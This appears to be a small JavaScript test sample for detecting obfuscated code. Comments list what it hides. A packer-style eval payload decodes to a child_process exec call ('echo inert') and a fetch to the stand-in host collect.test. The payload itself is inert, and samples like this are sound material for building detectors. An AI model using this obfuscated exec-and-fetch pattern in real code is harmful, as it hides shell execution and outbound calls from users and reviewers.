// hides: call child_process.exec "echo inert"
// hides: call fetch "http://collect.test/in"
// hides: code
eval(function (p, a, c, k, e, d) {
  e = function (c) { return (c < a ? '' : e(parseInt(c / a))) + ((c = c % a) > 35 ? String.fromCharCode(c + 29) : c.toString(36)); };
  if (!''.replace(/^/, String)) {
    while (c--) d[e(c)] = k[c] || e(c);
    k = [function (e) { return d[e]; }];
    e = function () { return '\\w+'; };
    c = 1;
  }
  while (c--) if (k[c]) p = p.replace(new RegExp('\\b' + e(c) + '\\b', 'g'), k[c]);
  return p;
}('0 1=2("3");1.4("5 6");7("8://9.a/b");', 36, 12, 'var|a|require|child_process|exec|echo|inert|fetch|http|collect|test|in'.split('|'), 0, {}));
